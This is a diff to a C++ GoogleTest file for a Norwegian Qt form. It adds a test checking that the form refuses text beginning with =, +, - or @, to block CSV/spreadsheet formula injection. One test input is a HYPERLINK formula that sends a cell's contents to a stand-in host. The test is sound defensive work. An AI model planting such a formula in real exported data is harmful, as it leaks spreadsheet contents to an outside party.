@@ -156,7 +156,7 @@ TEST_F(PersonFormTest, StoredTestIsShownWholeAndAcceptedUnchanged)
     ctx.test = tavlo::test::childAged(7, 3, 12);
     ctx.test.person.SEX = 2;
     ctx.test.person.HANDEDNESS = 3;
-    ctx.test.person.TELEFON = QStringLiteral("+47 22 33 44 55 / +47 987 65 432"); // wider than its 20
+    ctx.test.person.TELEFON = QStringLiteral("0047 22 33 44 55 / 0047 987 65 432"); // wider than its 20
     const PersonalData before = ctx.test.person;
     open();
     tavlo::test::saveScreenshot(w, QStringLiteral("person-form-stored"));
@@ -264,6 +264,48 @@ TEST_F(PersonFormTest, RefusalsComeInOrderWithTheFocusOnTheFieldAndItsTextSelect
     EXPECT_TRUE(sink.messages.isEmpty()) << "8 years: no question";
     EXPECT_EQ(ctx.test.person.SEX, 2);
     EXPECT_EQ(ctx.test.person.TESTDATE, (Date{2012, 2, 29}));
+}
+
+TEST_F(PersonFormTest, ATextThatSpreadsheetsRunAsAFormulaIsRefusedWhereItIsTyped)
+{
+    const QString formula = QStringLiteral(
+        "Feltet \"%1\" kan ikke begynne med =, +, - eller @, fordi eksportfilen åpnes i regneark, som leser en slik "
+        "tekst som en formel og kjører den. Fjern tegnet, eller skriv teksten på en annen måte.");
+    const struct {
+        int id;
+        QString text;
+        QString label; // empty: accepted
+    } cases[] = {
+        {0, QStringLiteral("=HYPERLINK(\"http://x.invalid/?\"&B2,\"klikk\")"), QStringLiteral("Navn")},
+        {0, QStringLiteral("+Ola"), QStringLiteral("Navn")},
+        {0, QStringLiteral("-Ola"), QStringLiteral("Navn")},
+        {0, QStringLiteral("@Ola"), QStringLiteral("Navn")},
+        {2, QStringLiteral("+47 22 33 44 55"), QStringLiteral("Telefon")},
+        {5, QStringLiteral("-skolen"), QStringLiteral("Skole")},
+        {8, QStringLiteral("@leder"), QStringLiteral("Testleder")},
+        {9, QStringLiteral("=1+1"), QStringLiteral("Annet")},
+        {0, QStringLiteral("Ola-Kari = @x +"), {}},
+        {2, QStringLiteral("0047 22 33 44 55"), {}},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.text.toStdString());
+        NewTestRecord(ctx.test);
+        open();
+        typeValid();
+        type(c.id, c.text);
+        sink.messages.clear();
+        clickFortsett();
+        if (c.label.isEmpty()) {
+            EXPECT_TRUE(accepted()) << sink.texts().join(u'\n').toStdString();
+            continue;
+        }
+        EXPECT_EQ(sink.texts(), QStringList{formula.arg(c.label)});
+        EXPECT_EQ(sink.messages.value(0).icon, MessageIcon::Exclamation);
+        EXPECT_FALSE(accepted());
+        EXPECT_EQ(focused(), c.id);
+        EXPECT_EQ(f(c.id)->selectedText(), c.text);
+        EXPECT_NE(kelmoOnDisk().value(kKeys[c.id]), c.text) << "not remembered";
+    }
 }
 
 TEST_F(PersonFormTest, FieldsBeforeARefusalAreInTheRecordAndOnDiskWhenItIsShown)
